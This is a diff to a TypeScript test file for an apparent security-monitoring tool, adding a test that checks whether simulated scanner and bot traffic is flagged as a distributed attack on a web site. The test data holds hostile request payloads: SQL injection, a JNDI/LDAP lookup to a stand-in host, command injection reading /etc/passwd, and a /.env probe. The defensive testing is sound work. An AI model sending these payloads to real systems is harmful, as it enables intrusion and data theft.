@@ -6,7 +6,7 @@ import { ANALYZERS } from '../../../src/campaigns/index.ts'
 import { DAY, HOUR, MINUTE } from '../../../src/core/time.ts'
 import type { AnalyzerUnit } from '../../../src/kit/define-detector.ts'
 import type { FindingDraft } from '../../../src/kit/define-rule.ts'
-import { PAYLOAD_FAMILIES } from '../../../src/kit/payloads/index.ts'
+import { classifyTarget, PAYLOAD_FAMILIES } from '../../../src/kit/payloads/index.ts'
 import { RULES } from '../../../src/rules/index.ts'
 import type { Sentence } from '../../../src/sinks/notify/catalogue/sentences.ts'
 import { ZH_ACCOUNTS } from '../../../src/sinks/notify/catalogue/zh-cn/accounts.ts'
@@ -78,6 +78,29 @@ describe('analyzers', () => {
       inOrder(background({ days: 25, rate: 5, seed: 1 }), own, swarm(60, at, HOUR), [breach]),
     )
     expect(findings.map(({ severity }) => severity)).toContain('critical')
+    expect(findings.flatMap(missing)).toEqual([])
+  })
+
+  it.each([
+    ['one attack on one page', 200, ['/product?id=1%20UNION%20SELECT%201,version()--']],
+    ['several attacks', 404, ['/?x=$%7Bjndi:ldap://198.51.100.77/a%7D', '/ping?host=;cat%20/etc/passwd', '/.env']],
+  ])('a web site under attack by many addresses: %s', (_, status, targets) => {
+    const get = (time: number, source: string, target: string, answer: number): TestEvent => ({
+      time,
+      source,
+      kind: 'web.request',
+      path: target.split('?')[0],
+      status: answer,
+      traits: classifyTarget('GET', target),
+    })
+    const scanners = Array.from({ length: 160 }, (_, i) =>
+      get(START + i * 144 * MINUTE, `45.7.${i}.9`, '/boaform/admin/formLogin', 404),
+    )
+    const bots = Array.from({ length: 60 }, (_, i) =>
+      get(START + 9 * DAY + i * MINUTE, `203.0.${i}.7`, targets[i % targets.length], status),
+    )
+    const findings = conclude(ANALYZERS[0], inOrder(scanners, bots))
+    expect(findings.map(({ title }) => title)).toEqual([expect.stringMatching(/^Distributed attack on the web site/)])
     expect(findings.flatMap(missing)).toEqual([])
   })
 
